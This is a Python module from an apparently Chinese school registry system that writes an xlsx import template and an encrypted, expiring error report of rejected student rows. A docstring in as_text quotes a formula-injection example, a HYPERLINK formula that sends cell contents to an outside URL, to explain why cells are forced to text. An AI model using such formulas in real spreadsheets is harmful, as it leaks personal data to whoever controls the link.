"""The import template and the error report, both xlsx with Chinese headers.

The error report holds the rejected rows exactly as they were in the file, plus
``错误原因`` and ``行号``, so an administrator can fix them there and import the report
itself again. It contains minors' data, so it is stored encrypted and expires after a day.
"""

from __future__ import annotations

import datetime as dt
import io
import secrets
from pathlib import Path

import polars as pl
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Font
from openpyxl.worksheet._write_only import WriteOnlyWorksheet
from sqlalchemy.orm import Session

from xueji.audit import service as audit
from xueji.auth.service import Principal
from xueji.db.crypto import keyring
from xueji.domain.clock import Clock
from xueji.domain.errors import NotFound
from xueji.registry.events import actor_of
from xueji.registry.imports.files import COLUMNS, TEMPLATE_HEADERS, read_chunks
from xueji.registry.imports.models import ImportReport
from xueji.registry.imports.repository import ImportRepository
from xueji.registry.national.fields import NATIONAL_COLUMNS

REASON, ROW = "错误原因", "行号"
#: the template's columns: key → header
TEMPLATE_COLUMNS = dict(zip(COLUMNS, TEMPLATE_HEADERS, strict=True))
PURPOSE = "import.report"
KEEP = dt.timedelta(days=1)
EXAMPLE = [
    "G440604201602110014",
    "陈小明",
    "男",
    "2016-02-11",
    "3",
    "三年级(1)班",
    "陈大明",
    "父亲",
    "13800138001",
    "林秀英",
    "母亲",
    "13800138002",
]


def template_xlsx() -> bytes:
    """The first sheet holds only the headers: an example row there would be imported as
    a real child by whoever leaves it in. The example is shown on the notes sheet, which
    the importer never reads."""
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.title = "学生名单"
    sheet.append(TEMPLATE_HEADERS)
    for cell in sheet[1]:
        cell.font = Font(bold=True)
    for column in "ABCDEFGHIJKL":
        sheet.column_dimensions[column].width = 16
    sheet.column_dimensions["A"].width = 24
    notes = workbook.create_sheet("填写说明")
    for line in (
        ["学籍号", "G 加 18 位身份证号；无身份证的学生填 J 或 L 开头的学籍号"],
        ["性别", "男 / 女，或 1 / 2"],
        ["出生日期", "2016-02-11、2016/2/11、20160211 或 Excel 日期"],
        ["监护人关系", "父亲、母亲、祖父、祖母、外祖父、外祖母、其他监护人 等"],
        ["监护人电话", "11 位手机号；每名学生至少一位监护人"],
        ["第二监护人", "可不填"],
        [],
        ["示例（请在“学生名单”表中填写，不要把示例行填进去）"],
        TEMPLATE_HEADERS,
        EXAMPLE,
    ):
        notes.append(line)
    return _save(workbook)


def error_report(path: Path, reasons: dict[int, str]) -> bytes:
    """The rejected rows of ``path`` (by row number) with their reasons, in file order,
    in the file's layout: the template's columns, or every column of the national form
    for a file in that layout, so that the report can be corrected and imported again."""
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("错误报告")
    wanted = pl.Series(list(reasons), dtype=pl.Int64)
    columns: dict[str, str] | None = None
    with read_chunks(path) as chunks:
        for chunk in chunks:
            if columns is None:
                national = "document_type" in chunk.columns  # ``national.layout``
                columns = NATIONAL_COLUMNS if national else TEMPLATE_COLUMNS
                sheet.append([*columns.values(), REASON, ROW])
            for values in chunk.filter(pl.col("row").is_in(wanted.implode())).iter_rows(named=True):
                row = values["row"]
                texts = [values.get(key) for key in columns]
                sheet.append([*(as_text(sheet, value) for value in texts), reasons[row], row])
    if columns is None:
        sheet.append([*TEMPLATE_HEADERS, REASON, ROW])
    return _save(workbook)


def as_text(sheet: WriteOnlyWorksheet, value: str | None) -> WriteOnlyCell | None:
    """A cell holding ``value`` as text, never as a formula: an uploaded cell such as
    ``=HYPERLINK("http://…?d="&A3)`` comes back exactly as typed, and no spreadsheet
    evaluates it when the report is opened (OWASP: CSV and formula injection)."""
    if value is None:
        return None
    cell = WriteOnlyCell(sheet, value=value)
    cell.data_type = "s"
    return cell


def _save(workbook: Workbook) -> bytes:
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def keep(
    session: Session, clock: Clock, principal: Principal, *, school_code: str, content: bytes
) -> str:
    """Store a report for its uploader; returns the download token."""
    now = clock.now()
    repository = ImportRepository(session)
    repository.forget_reports_before(now - KEEP)
    token = secrets.token_urlsafe(24)
    repository.add(
        ImportReport(
            token=token,
            school_code=school_code,
            account_id=principal.account_id,
            created_at=now,
            content=keyring().encrypt_bytes(content, purpose=PURPOSE),
        )
    )
    return token


def fetch(session: Session, clock: Clock, principal: Principal, token: str) -> bytes:
    report = ImportRepository(session).report(token)
    if (
        report is None
        or report.account_id != principal.account_id
        or report.created_at < clock.now() - KEEP
    ):
        raise NotFound("错误报告不存在或已过期")
    audit.record(
        session,
        clock,
        actor_of(principal),
        action="registry.import_report_downloaded",
        subject=f"school:{report.school_code}",
        school_code=report.school_code,
        payload={"report_created_at": report.created_at.isoformat()},
    )
    return keyring().decrypt_bytes(report.content, purpose=PURPOSE)
